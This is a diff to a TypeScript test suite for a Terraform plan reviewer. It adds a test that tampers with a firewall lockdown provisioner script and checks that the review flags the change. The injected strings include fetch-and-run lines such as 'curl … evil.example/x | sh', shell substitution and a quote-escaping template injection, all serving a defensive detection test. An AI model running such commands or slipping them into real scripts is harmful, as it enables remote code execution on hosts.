@@ -1,8 +1,8 @@
 /** Reviews of plans that the real Terraform made. */
 import { mkdirSync, writeFileSync } from "node:fs";
 import { DataResource, TerraformOutput, type TerraformStack, TerraformVariable } from "cdktf";
-import { AllowedSource, type HostProps, SshOnlyFirewall, type SshOnlyFirewallProps } from "../../lib";
-import { hostProgramVersion } from "../../lib/host/program";
+import { AllowedSource, type HostProps, PolicyException, SshOnlyFirewall, type SshOnlyFirewallProps } from "../../lib";
+import { hostProgramVersion, launcher } from "../../lib/host/program";
 import { fingerprint } from "../../lib/review/fingerprint";
 import type { DangerKind } from "../../lib/review/hosts";
 import { LONGEST_COMMENT, toMarkdown } from "../../lib/review/markdown";
@@ -38,7 +38,7 @@ interface Reviewed extends Review {
 
 function reviewed(planned: Planned): Reviewed {
   const json = planned.json.replaceAll(hostProgramVersion(), PROGRAM);
-  const review = reviewPlan(readPlan(Buffer.from(json)));
+  const review = reviewPlan(readPlan(Buffer.from(json)), { launcher: launcher() });
   const markdown = toMarkdown(review, { knownProgram: PROGRAM });
   expect(markdown.length).toBeLessThanOrEqual(LONGEST_COMMENT);
   expect(brokenIn(markdown)).toEqual([]);
@@ -167,7 +167,7 @@ describeWith("the review of a plan", ["terraform"], () => {
     );
 
     test.each(["0.0.0.0/0", "::/0"])("of an exception for %s names its port", async (from) => {
-      const exceptions = [{ kind: "ingress", from, port: 3389, protocol: "tcp" }] as const;
+      const exceptions = [PolicyException.ingress({ from: [from], port: 3389, protocol: "tcp" })];
       const review = await change(undefined, { tracker, hosts: hosts(1), exceptions });
       const family = from === "::/0" ? "IPv6" : "IPv4";
       expect(details(review, "open-to-world")).toEqual([
@@ -537,6 +537,41 @@ describeWith("the review of a plan", ["terraform"], () => {
     ]);
     expect(lockdown.provisioner.splice(1, 1)).toHaveLength(1);
     expect(kinds(reviewed(await made.plan(configuration)))).toEqual(["unclear"]);
+  });
+
+  test.each([
+    [
+      "a command in front",
+      (text: string) => text.replace("#!/bin/sh\n", "#!/bin/sh\ncurl -s http://evil.example/x | sh\n"),
+    ],
+    [
+      "a command among the settings",
+      (text: string) => text.replace("BACKEND='auto'", "BACKEND='auto'; curl evil.example"),
+    ],
+    ["a setting that is shell", (text: string) => text.replace("BACKEND='auto'", 'BACKEND="$(curl evil.example)"')],
+    [
+      "a command in the launcher",
+      (text: string) => text.replace("exec </dev/null", "curl evil.example | sh; exec </dev/null"),
+    ],
+    ["a command behind it", (text: string) => `${text}curl evil.example\n`],
+    [
+      "a template of two",
+      (text: string) =>
+        text.replace("each.key", "each.key, \"'\", \"'\\\\''\")}'; curl evil.example; x='${replace(each.key"),
+    ],
+  ])("of a script with %s says that it is another one", async (_what, alter) => {
+    const made = await project();
+    const configuration = firewall(made, { hosts: hosts(1) });
+    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as {
+      provisioner: Array<{ "remote-exec": { inline: string[] } }>;
+    };
+    const { inline } = lockdown.provisioner[0]["remote-exec"];
+    const [script] = inline;
+    inline[0] = alter(script);
+    expect(inline[0]).not.toBe(script);
+    expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
+      "-: terraform_data.fleet_lockdown uploads another script than this version of ssh-only-firewall would: read it, or review with the version that the configuration was made with",
+    ]);
   });
 
   test("of a lockdown that lost a trigger reports it, and does not call it something else", async () => {
